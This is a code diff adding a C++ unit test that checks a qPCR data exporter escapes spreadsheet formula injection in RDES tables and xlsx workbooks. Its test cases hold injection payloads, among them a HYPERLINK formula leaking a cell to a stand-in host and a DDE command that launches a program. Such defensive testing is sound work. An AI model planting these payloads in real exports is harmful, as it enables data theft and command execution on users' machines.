@@ -1,4 +1,6 @@
 #include "export/atomicsave.h"
+#include "export/excelcom.h"
+#include "export/exportcommand.h"
 #include "rdml/rdes.h"
 #include "rdml/rdml.h"
 
@@ -477,6 +479,56 @@ TEST(Rdes, TheTableHasARowPerWellAndChannel)
     EXPECT_EQ(lines[2], expected);
     EXPECT_EQ(summary.amplificationPoints, 96u * 2 * 40);
     EXPECT_EQ(table->find('\r'), std::string::npos);
+}
+
+// A spreadsheet opening the RDES table runs a cell starting with '=', '+', '@' or '-' as a
+// formula: such a text cell starts with an apostrophe. RDML and the workbook hold text as text.
+TEST(Rdes, TextThatASpreadsheetWouldRunAsAFormulaIsNot)
+{
+    const struct {
+        std::string sample;
+        std::string rdesCell;
+    } cases[] = {
+        {R"(=HYPERLINK("http://x.example/?leak="&A2, "click"))",
+         R"('=HYPERLINK("http://x.example/?leak="&A2, "click"))"},
+        {"=1+1", "'=1+1"},
+        {"+2+3", "'+2+3"},
+        {"@SUM(1)", "'@SUM(1)"},
+        {"-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"},
+        {"-", "'-"},
+        {"-12.5", "-12.5"},
+        {"a=b", "a=b"},
+        {"Sample 2", "Sample 2"},
+    };
+    for (const auto& c : cases) {
+        Grid table(2, 3, 1, 1);
+        table.setCell(0, 2, "1");
+        table.setCell(1, 0, "A1");
+        table.setCell(1, 1, " " + c.sample);
+        table.setCell(1, 2, "0.5");
+        const RdmlContent content{"Run", "2", PlateFormat::Wells96, {"=465-510"}, {&table}, {}, nullptr};
+        const auto rdes = rdesTable(content);
+        ASSERT_TRUE(rdes.ok()) << rdes.error().message;
+        const std::string row = rdes->substr(rdes->find('\n') + 1);
+        EXPECT_EQ(row, "A1\t" + c.rdesCell + "\tunkn\t'=465-510\ttoi\t'=465-510\t\t0.5\n") << c.sample;
+
+        const auto xml = rdmlXml(content);
+        ASSERT_TRUE(xml.ok()) << xml.error().message;
+        EXPECT_EQ(readBack(*xml).sampleOfReact.at(1), c.sample);
+
+        xlsxtest::TempDir dir;
+        TExcelcom excel(dir.path / "book.xlsx");
+        ASSERT_TRUE(exportGridToWorkbook(excel, table, "Run", '.').ok());
+        const std::string workbook = xlsxtest::readFile(dir.path / "book.xlsx");
+        const std::string sheet = xlsxtest::part(workbook, "xl/worksheets/sheet1.xml");
+        EXPECT_EQ(sheet.find("<f"), std::string::npos) << c.sample;
+        if (c.sample == "-12.5")
+            continue; // a number, and written as one
+        EXPECT_NE(sheet.find(R"(<c r="B2" s="1" t="s"><v>1</v></c>)"), std::string::npos) << sheet;
+        pugi::xml_document strings;
+        ASSERT_TRUE(strings.load_string(xlsxtest::part(workbook, "xl/sharedStrings.xml").c_str()));
+        EXPECT_EQ(strings.child("sst").last_child().child("t").text().get(), " " + c.sample);
+    }
 }
 
 TEST(RdmlSave, ANewFileIsWrittenAndAnExistingOneRefusedUnlessReplaced)
